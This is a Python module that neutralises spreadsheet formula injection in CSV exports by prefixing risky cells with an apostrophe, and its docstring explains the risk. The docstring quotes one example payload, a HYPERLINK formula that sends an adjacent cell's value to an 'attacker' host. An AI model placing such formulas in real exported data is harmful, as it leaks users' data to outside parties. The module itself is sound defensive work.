"""Text written into spreadsheet cells (our CSV files) without becoming a formula.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
archived pages are written by strangers: a page title ``=HYPERLINK("http://attacker/?"&A2,
"Open")`` became a live link leaking the next cell in LibreOffice. As OWASP advises, such
a text cell (and one starting with a tab or carriage return, which some spreadsheets skip
before looking) is written with a leading apostrophe, which spreadsheets show as text.
Numbers are left alone; a program reading the CSV sees the apostrophe, and JSON Lines
exports carry every value untouched.
"""

from __future__ import annotations

from typing import Any

__all__ = ["spreadsheet_safe"]

_ACTIVE = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a cell no spreadsheet evaluates: text starting with a formula character
    gets a leading ``'``; anything else is returned as is."""
    if isinstance(value, str) and value.startswith(_ACTIVE):
        return "'" + value
    return value
